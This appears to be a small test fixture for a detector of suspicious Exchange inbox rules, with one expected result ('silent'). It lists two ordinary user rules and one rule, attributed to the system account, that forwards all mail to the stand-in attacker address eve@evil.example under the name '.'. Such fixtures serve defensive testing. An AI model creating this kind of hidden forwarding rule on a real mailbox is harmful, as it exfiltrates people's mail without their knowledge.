# Ordinary rules made by cmdlets, and the service's own bookkeeping.
domain fabrikam.com
person amy "Amy Adams"
person bob "Bob Brown"

mon 09:00 amy runs New-InboxRule Name="News" FromAddressContainsWords="news@shop.example" MoveToFolder="Newsletters" MarkAsRead="True"
mon 09:10 bob runs New-InboxRule Name="Deputy" SubjectContainsWords="holiday" ForwardTo="amy@fabrikam.com"
mon 09:20 "NT AUTHORITY\\SYSTEM (Microsoft.Exchange)" runs New-InboxRule as system Name="." ForwardTo="eve@evil.example"
silent
